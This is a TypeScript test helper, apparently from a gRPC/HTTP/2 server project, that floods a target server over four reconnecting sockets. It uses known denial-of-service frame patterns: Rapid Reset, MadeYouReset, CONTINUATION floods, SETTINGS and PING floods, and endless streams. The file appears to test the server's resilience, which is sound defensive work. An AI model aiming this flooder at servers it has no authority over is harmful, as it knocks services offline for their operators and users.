// Floods an HTTP/2 server for some seconds, without reading an answer, over four connections that are made again when they are cut.
// Argument, JSON: {"path"} or {"address"}, "method", "kind" and "seconds". Says {"event":"flooded","frames","cut"}.
import type { Socket } from 'node:net'
import { endHeaders, endStream, frameTypes, grpcHeaders, http2Frame, preface } from './http2-frames.ts'
import type { floodKinds } from './flood-kinds.ts'
import { openSocket } from './raw-grpc.ts'

const options = JSON.parse(process.argv[2] ?? '{}') as { path?: string; address?: string; method: string; kind: keyof typeof floodKinds; seconds: number } // our own test wrote it
const pieces = 200
const headers = grpcHeaders(options.method)
const once: Readonly<Record<keyof typeof floodKinds, (stream: number, round: number) => Buffer>> = {
  rapidReset: (stream) => Buffer.concat([http2Frame(frameTypes.headers, endHeaders, stream, headers), http2Frame(frameTypes.rst, 0, stream, Buffer.from([0, 0, 0, 8]))]),
  madeYouReset: (stream) => Buffer.concat([http2Frame(frameTypes.headers, endHeaders, stream, headers), http2Frame(frameTypes.windowUpdate, 0, stream, Buffer.alloc(4))]),
  neverEnding: (stream) => http2Frame(frameTypes.headers, endHeaders, stream, headers),
  settings: () => http2Frame(frameTypes.settings, 0, 0),
  pings: () => http2Frame(frameTypes.ping, 0, 0, Buffer.alloc(8)),
  continuation: (stream) => (stream === 1 ? http2Frame(frameTypes.headers, 0, 1, headers) : http2Frame(frameTypes.continuation, 0, 1, headers)),
  emptyData: (stream) => (stream === 1 ? http2Frame(frameTypes.headers, endHeaders, 1, headers) : http2Frame(frameTypes.data, 0, 1)),
  wholeCalls: (stream) => Buffer.concat([http2Frame(frameTypes.headers, endHeaders, stream, headers), http2Frame(frameTypes.data, endStream, stream, Buffer.alloc(5))]),
}

const over = performance.now() + options.seconds * 1_000
let frames = 0
let cut = 0
await Promise.all(Array.from({ length: 4 }, flood))
console.log(JSON.stringify({ event: 'flooded', frames, cut }))
process.exit(0)

async function flood(): Promise<void> {
  const endpoint = options.path === undefined ? { address: options.address ?? '' } : { path: options.path }
  while (performance.now() < over) {
    const socket = openSocket(endpoint)
    socket.on('error', () => undefined)
    socket.write(Buffer.concat([preface, http2Frame(frameTypes.settings, 0, 0)]))
    await pour(socket)
    socket.destroy()
    await new Promise((resolve) => setTimeout(resolve, 5))
  }
}

async function pour(socket: Socket): Promise<void> {
  const closed = new Promise<void>((resolve) => socket.once('close', resolve))
  const late = new Promise<void>((resolve) => setTimeout(resolve, Math.max(0, over - performance.now())))
  for (let round = 0; performance.now() < over && !socket.destroyed; round++) {
    const bytes = Buffer.concat(Array.from({ length: pieces }, (_, at) => once[options.kind](1 + 2 * (round * pieces + at), round)))
    frames += pieces
    const drained = new Promise<void>((resolve) => socket.once('drain', resolve))
    if (socket.write(bytes)) await new Promise((resolve) => setImmediate(resolve))
    else await Promise.race([drained, closed, late])
  }
  if (socket.destroyed) cut++
}
